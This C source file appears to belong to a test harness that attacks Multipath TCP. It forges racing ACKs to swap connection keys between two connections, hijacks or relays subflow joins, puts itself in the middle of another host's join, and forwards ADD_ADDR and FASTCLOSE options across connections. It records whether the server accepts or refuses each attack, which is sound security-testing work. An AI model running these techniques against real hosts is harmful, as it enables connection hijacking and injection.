// SPDX-License-Identifier: GPL-2.0-only
/*
 * Two connections of one host, made each other's peers. The attacker opens one of their own, and
 * is not in the middle of the client's: they see the server's SYN/ACK to it pass by, and have
 * their own ACK there before the client's. In it they name the server's key of the one
 * connection as the client's of the other, and the other way round. What the server sends on
 * one of them, to begin a join say, is then what it expects on the other.
 */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

/* As from who opens the connection */
static void end_first(int path, const uint8_t *from_mac,
		      const struct segment *synack, uint64_t sender_key,
		      uint64_t receiver_key)
{
	struct plan plan = {
		.flags = TH_ACK,
		.from_mac = from_mac,
		.to_mac = links[path][SERVER].peer_mac,
		.from = synack->to,
		.to = synack->from,
		.seq = synack->ack,
		.ack = synack->seq + 1,
	};
	const uint8_t *stamps = find_option(synack, TCPOPT_TIMESTAMP, 0);
	uint8_t *at = plan.options;
	struct frame frame;

	if (stamps && stamps[1] == TCPOLEN_TIMESTAMP)
		at = put_timestamps(at, get32(stamps + 6), get32(stamps + 2));
	at = put_capable(at, CAPABLE_ACK_LEN);
	at = put64(put64(at, sender_key), receiver_key);
	plan.options_len = (unsigned int)(at - plan.options);
	make_segment(&frame, &plan);
	send_frame(&links[path][SERVER], &frame);
}

/* The next SYN/ACK of a first handshake, to the attacker or to the client */
static bool next_synack(bool own, const struct endpoint *self, int64_t until,
			struct frame *frame, struct segment *segment,
			uint64_t *key)
{
	const uint8_t *capable;

	while (pump(until, false, frame)) {
		if (!parse_segment(frame, segment) || !segment->tcp->syn ||
		    !segment->tcp->ack ||
		    same_endpoint(&segment->to, self) != own)
			continue;
		capable = find_mptcp(segment, MP_CAPABLE);
		if (!capable || capable[1] != CAPABLE_SYNACK_LEN)
			continue;
		*key = get64(capable + 4);
		return true;
	}
	return false;
}

/* What the server sends on the attacker's connection to join there */
static uint8_t *server_join(uint8_t len, const struct endpoint *self,
			    int64_t until, struct frame *frame,
			    struct segment *segment, bool *refused)
{
	uint8_t *join;

	while (pump(until, false, frame)) {
		if (!parse_segment(frame, segment) ||
		    !same_endpoint(&segment->to, self))
			continue;
		join = find_mptcp(segment, MP_JOIN);
		if (join && join[1] == len)
			return join;
		if (segment->tcp->rst && len == JOIN_ACK_LEN) {
			*refused = true;
			return NULL;
		}
	}
	return NULL;
}

/* An option that the server sends on the attacker's connection, as it is, from the client */
static bool pass_option(uint8_t subtype, const struct endpoint *self,
			int64_t until)
{
	const struct connection *x;
	const struct link *link;
	struct segment segment;
	struct frame frame;
	const uint8_t *option;

	do {
		if (!pump(until, false, &frame))
			return false;
		option = parse_segment(&frame, &segment) &&
					 same_endpoint(&segment.to, self) ?
				 find_mptcp(&segment, subtype) :
				 NULL;
	} while (!option);
	x = last_connection();
	if (!x)
		return false;
	link = make_next(&frame, x, SERVER, option, option[1]);
	send_frame(link, &frame);
	return true;
}

/* By which the server has sent this: that of an endpoint is not by its address */
static int path_of(const struct segment *segment)
{
	return memcmp(segment->eth->ether_shost, links[1][SERVER].peer_mac,
		      ETH_ALEN) ?
		       0 :
		       1;
}

/*
 * from=ADDR to=ADDR to_port=N: the attacker's connection. Then the client is to connect.
 * what=add-addr, what=fastclose, or a join
 */
bool cmd_cross(void)
{
	struct connection service = { 0 }, x = { 0 };
	struct plan syn = { .flags = TH_SYN, .options_len = CAPABLE_SYN_LEN };
	int64_t until = now_ms() + 20 * patience_ms;
	uint64_t key_x, key_y;
	struct frame frame_x, frame_y, frame;
	struct segment synack_x, synack_y, segment;
	struct attempt own, attempt;
	bool refused = false;
	uint8_t *join;

	service.ends[SERVER].port = htons((uint16_t)arg_number("to_port", "0"));
	start_attempt(&own, &service, &service, 0);
	put_capable(syn.options, CAPABLE_SYN_LEN);
	send_attempt(&own, &syn);
	watch = true;
	if (!next_synack(true, &own.from, until, &frame_y, &synack_y, &key_y) ||
	    !next_synack(false, &own.from, until, &frame_x, &synack_x, &key_x))
		return false;
	end_first(own.path, links[own.path][CLIENT].peer_mac, &synack_x, key_y,
		  key_x);
	end_first(own.path, links[own.path][SERVER].mac, &synack_y, key_x,
		  key_y);
	printf(" crossed=1");
	watch = false;

	if (arg_is("what", "add-addr", "join")) {
		printf(" announced=%d",
		       pass_option(MP_ADD_ADDR, &own.from, until));
		return true;
	}
	if (arg_is("what", "fastclose", "join")) {
		printf(" closed=%d",
		       pass_option(MP_FASTCLOSE, &own.from, until));
		return true;
	}
	join = server_join(JOIN_SYN_LEN, &own.from, until, &frame, &segment,
			   &refused);
	printf(" begun=%s", answers[join ? ANSWERED : SILENT]);
	if (!join)
		return true;
	x.ends[SERVER] = synack_x.from;
	x.keys[CLIENT] = key_y;
	x.keys[SERVER] = key_x;
	if (!copy_answered(&attempt, &x, join))
		return true;
	send_synack(path_of(&segment), SERVER, &segment, attempt.synack,
		    attempt.nonces[SERVER]);
	join = server_join(JOIN_ACK_LEN, &own.from, now_ms() + patience_ms,
			   &frame, &segment, &refused);
	printf(" server=%s", answers[join    ? ANSWERED :
				     refused ? REFUSED :
					       SILENT]);
	if (join)
		end_join(&attempt, &x, join + 4);
	return true;
}

/* What belongs to @held, from the other host to the server or back, as it is */
static void relay(struct frame *frame, const struct segment *segment)
{
	const struct link *link = same_endpoint(&segment->from, &held) ?
					  &links[0][SERVER] :
					  &links[OTHER_HOST][CLIENT];

	memcpy(segment->eth->ether_shost, link->mac, ETH_ALEN);
	memcpy(segment->eth->ether_dhost, link->peer_mac, ETH_ALEN);
	send_frame(link, frame);
}

/* A join between @held and the server, from its SYN to its ACK, which are left in @segment */
static bool relay_join(int64_t until, struct frame *frame,
		       struct segment *segment)
{
	const uint8_t *join;

	for (;;) {
		relay(frame, segment);
		join = find_mptcp(segment, MP_JOIN);
		if (segment->tcp->rst)
			return false;
		if (join && join[1] == JOIN_ACK_LEN)
			return true;
		do {
			if (!pump(until, false, frame))
				return false;
		} while (!parse_segment(frame, segment) ||
			 (!same_endpoint(&segment->from, &held) &&
			  !same_endpoint(&segment->to, &held)));
	}
}

/* The other host's join, whose SYN this is, and bytes of the attacker's behind it */
static void be_in_the_middle(const struct connection *x, int64_t until,
			     struct frame *frame, struct segment *segment)
{
	struct attempt join = { .with = SERVER,
				.from = segment->from,
				.to = segment->to };
	enum answer answer = SILENT;

	held = segment->from;
	if (!relay_join(until, frame, segment)) {
		printf(" relayed=%s",
		       answers[segment->tcp->rst ? REFUSED : SILENT]);
		return;
	}
	join.seq = segment->seq;
	join.peer_seq = segment->ack;
	while (answer == SILENT &&
	       next_segment(&join, now_ms() + patience_ms, frame, segment))
		answer = segment->tcp->rst ? REFUSED :
			 segment->tcp->syn ? SILENT :
					     ANSWERED;
	printf(" relayed=answered ack=%s", answers[answer]);
	if (answer == ANSWERED)
		printf(" data=%s",
		       answers[send_data(&join, x, arg_number("bytes", "0"),
					 0)]);
}

/* The other host's ADD_ADDR is the client's to the server; and what the server begins there */
static void pass_address(int64_t until)
{
	struct segment segment;
	struct connection *x;
	struct frame frame, announcement;
	const uint8_t *option, *join = NULL;

	option = hear_other(MP_ADD_ADDR, until, &frame, &segment);
	printf(" announced=%d", option != NULL);
	for (x = last_connection(); option && !x; x = last_connection())
		if (now_ms() > until ||
		    !pump(now_ms() + 10, false, &announcement))
			option = now_ms() > until ? NULL : option;
	if (!option)
		return;
	send_frame(make_next(&announcement, x, SERVER, option, option[1]),
		   &announcement);

	watch = true;
	while (!join && pump(until, false, &frame)) {
		join = parse_segment(&frame, &segment) &&
				       segment.from.addr ==
					       x->ends[SERVER].addr ?
			       find_mptcp(&segment, MP_JOIN) :
			       NULL;
		if (join && join[1] != JOIN_SYN_LEN)
			join = NULL;
	}
	printf(" begun=%s", answers[join ? ANSWERED : SILENT]);
	if (!join)
		return;
	held = segment.to;
	printf(" joined=%d", relay_join(until, &frame, &segment));
	/* The last ACK, and what they say then */
	until = now_ms() + patience_ms;
	while (pump(until, false, &frame))
		if (parse_segment(&frame, &segment) &&
		    (same_endpoint(&segment.from, &held) ||
		     same_endpoint(&segment.to, &held)))
			relay(&frame, &segment);
}

/*
 * The same with a connection that another host opens, which gets the attacker. It has waited
 * for its SYN/ACK, and gets the key of the server of the client's connection; and that one gets
 * its key for the client's. So the one is what the other expects, from either side: its join
 * is one to the client's connection, by way of from=ADDR; or, by=path, from where it comes, with
 * the attacker in the middle. Or what=add-addr: it announces an address, where the server joins.
 */
bool cmd_cross_lured(void)
{
	int64_t until = now_ms() + 20 * patience_ms;
	struct endpoint nobody = { 0 };
	struct connection x = { 0 };
	struct frame frame_other, frame_x, frame;
	struct segment other, synack_x, segment;
	struct attempt attempt;
	uint8_t *capable, *join;

	if (!hear_other(MP_CAPABLE, until, &frame_other, &other))
		return false;
	printf(" waits=1");
	watch = true;
	if (!next_synack(false, &nobody, until, &frame_x, &synack_x,
			 &x.keys[SERVER]))
		return false;
	printf(" seen=1");
	x.ends[SERVER] = synack_x.from;
	accept_other(&other, x.keys[SERVER]);
	do
		capable = hear_other(MP_CAPABLE, until, &frame, &segment);
	while (capable && capable[1] < CAPABLE_ACK_LEN);
	if (!capable)
		return false;
	printf(" named=1");
	x.keys[CLIENT] = get64(capable + 4);
	end_first(0, links[0][CLIENT].peer_mac, &synack_x, x.keys[CLIENT],
		  x.keys[SERVER]);
	watch = false;

	/* The ACK alone has them first, and then the byte again */
	if (!take_first_byte(until))
		return false;
	if (arg_is("what", "add-addr", "join")) {
		pass_address(until);
		return true;
	}
	join = hear_other(MP_JOIN, until, &frame, &segment);
	printf(" begun=%s", answers[join ? ANSWERED : SILENT]);
	if (!join)
		return true;
	if (arg_is("by", "path", "address")) {
		be_in_the_middle(&x, until, &frame, &segment);
		return true;
	}
	if (!copy_answered(&attempt, &x, join))
		return true;
	send_synack(OTHER_HOST, CLIENT, &segment, attempt.synack,
		    attempt.nonces[SERVER]);
	do
		join = hear_other(MP_JOIN, now_ms() + patience_ms, &frame,
				  &segment);
	while (join && join[1] != JOIN_ACK_LEN);
	printf(" other=%s", answers[join ? ANSWERED : SILENT]);
	if (join)
		end_join(&attempt, &x, join + 4);
	return true;
}

/*
 * In the middle of the client's first subflow: the client gets the key of another host, with which
 * the attacker has a connection, path=3 from=ADDR to=ADDR to_port=N with=client, and that one the
 * key of the client. What it announces there is what the client's server announces.
 */
bool cmd_cross_middle(void)
{
	struct plan syn = { .flags = TH_SYN, .options_len = CAPABLE_SYN_LEN };
	struct plan ack = { .flags = TH_ACK, .options_len = CAPABLE_ACK_LEN };
	int64_t until = now_ms() + 20 * patience_ms;
	uint8_t *capable = NULL, *option = NULL;
	struct connection nobody = { 0 }, *x;
	struct segment synack, segment;
	uint64_t key_client, key_other;
	struct attempt own;
	struct frame frame;

	fflush(stdout);
	start_attempt(&own, &nobody, &nobody, 0);
	put_capable(syn.options, CAPABLE_SYN_LEN);
	send_attempt(&own, &syn);
	while (!capable && next_segment(&own, until, &frame, &synack))
		capable = find_mptcp(&synack, MP_CAPABLE);
	if (!capable)
		return false;
	key_other = get64(capable + 4);
	own.seq++;
	own.peer_seq = synack.seq + 1;

	hold_synacks = true;
	do {
		if (!pump(until, false, &frame))
			return false;
		capable = parse_segment(&frame, &segment) ?
				  find_mptcp(&segment, MP_CAPABLE) :
				  NULL;
	} while (!capable || capable[1] != CAPABLE_SYNACK_LEN ||
		 same_endpoint(&segment.to, &own.from));
	put64(capable + 4, key_other);
	hold_synacks = false;
	watch = true;
	learn_connection(0, SERVER, &segment);
	pass_segment(0, SERVER, &frame, &segment);
	do {
		if (!pump(until, false, &frame))
			return false;
		capable = parse_segment(&frame, &segment) ?
				  find_mptcp(&segment, MP_CAPABLE) :
				  NULL;
	} while (!capable || capable[1] < CAPABLE_ACK_LEN);
	key_client = get64(capable + 4);
	put64(put64(put_capable(ack.options, CAPABLE_ACK_LEN), key_client),
	      key_other);
	send_attempt(&own, &ack);

	while (!option && next_segment(&own, until, &frame, &segment))
		option = find_mptcp(&segment, MP_ADD_ADDR);
	x = last_connection();
	printf(" announced=%d", option && x);
	if (option && x)
		send_frame(make_next(&frame, x, CLIENT, option, option[1]),
			   &frame);
	return true;
}
